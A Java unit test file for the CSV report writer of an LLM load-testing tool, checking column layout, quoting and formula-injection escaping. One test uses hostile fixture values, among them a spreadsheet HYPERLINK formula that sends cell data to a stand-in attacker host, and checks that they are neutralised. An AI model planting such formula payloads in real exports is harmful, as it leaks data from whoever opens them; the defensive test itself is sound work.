package io.barrage.coordinator.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.barrage.coordinator.report.model.Summary;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

  @Test
  void oneRowPerCellWithTheSageMakerColumnsFirst() {
    Summary s = SummaryBuilder.summary(ResultWriterTest.run());
    String[] lines = CsvWriter.render(s).split("\r\n");
    assertThat(lines).hasSize(1 + 3);
    assertThat(lines[0]).startsWith("target,model,quantization,instance,concurrent_requests,latency_ms_per_token_median,"
        + "throughput_tokens_per_second,usd_per_hour,minutes_per_1m_tokens,usd_per_1m_tokens,ttft_p50_ms,ttft_p99_ms,tpot_p50_ms,tpot_p99_ms,e2e_p50_ms,e2e_p99_ms");
    List<String> row = List.of(lines[1].split(",", -1));
    assertThat(row).hasSize(CsvWriter.HEADER.size());
    assertThat(row.subList(0, 5)).containsExactly("fastapi-a100", "llama-2-13b", "none", "a100-40gb", "300");
    assertThat(row.get(6)).isEqualTo("128");
    assertThat(row.get(7)).isEqualTo("4.1");
    assertThat(row.get(8)).isEqualTo("130.2083");
    assertThat(row.get(9)).isEqualTo("8.8976");
    assertThat(row.get(CsvWriter.HEADER.indexOf("requests_ok"))).isEqualTo("12");
    assertThat(row.get(CsvWriter.HEADER.indexOf("error_rate"))).isEqualTo("0");
  }

  @Test
  void textThatASpreadsheetWouldRunAsAFormulaIsEscapedInResultsCsv() throws Exception {
    // values a scenario author controls end up in results.csv: model, instance, quantization
    io.barrage.protocol.results.RunRecord base = ResultWriterTest.run();
    String yaml = """
        name: fixture
        targets:
          - name: fastapi-a100
            api: fastapi
            url: http://127.0.0.1:9/generate
            model: '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
            deployment: {instance: "@SUM(1+1)", gpus: 1, quantization: "+cmd", usdPerHour: 4.10}
          - name: tgi-2xa4000
            api: tgi-stream
            url: http://127.0.0.1:9
            model: "-2+3"
            deployment: {instance: "\tx", gpus: 2, usdPerHour: 1.52}
        workload:
          prompt: {text: "hello"}
          maxNewTokens: [128]
          load: {concurrency: [1, 300]}
          step: {requests: 10}
        """;
    var hostile = new io.barrage.protocol.results.RunRecord(base.runId(), io.barrage.protocol.scenario.ScenarioLoader.parse(yaml, null),
        base.startedAtEpochMs(), base.endedAtEpochMs(), base.outcome(), base.workersPlanned(), base.workerEvents(), base.cells());
    String csv = CsvWriter.render(SummaryBuilder.summary(hostile));
    String[] lines = csv.split("\r\n");
    // no cell of any row starts with a formula character
    for (String line : lines) {
      for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1)) {
        String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
        assertThat(unquoted).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@").doesNotStartWith("\t");
        if (unquoted.startsWith("-")) assertThat(unquoted).as("a negative number only").matches("-[0-9.]+");
      }
    }
    assertThat(csv).contains("\"'=HYPERLINK(\"\"http://attacker.invalid/?\"\"&A1,\"\"open\"\")\"", "'@SUM(1+1)", "'+cmd", "'-2+3");
  }

  @Test
  void negativeNumbersStayNumbers() {
    assertThat(CsvWriter.quote("-1.5")).isEqualTo("-1.5");
    assertThat(CsvWriter.quote("-2e-3")).isEqualTo("-2e-3");
    assertThat(CsvWriter.quote("-1+1")).isEqualTo("'-1+1");
  }

  @Test
  void quotesFieldsThatNeedIt() {
    assertThat(CsvWriter.quote("a,b")).isEqualTo("\"a,b\"");
    assertThat(CsvWriter.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    assertThat(CsvWriter.quote("plain")).isEqualTo("plain");
    assertThat(CsvWriter.quote(null)).isEmpty();
  }
}
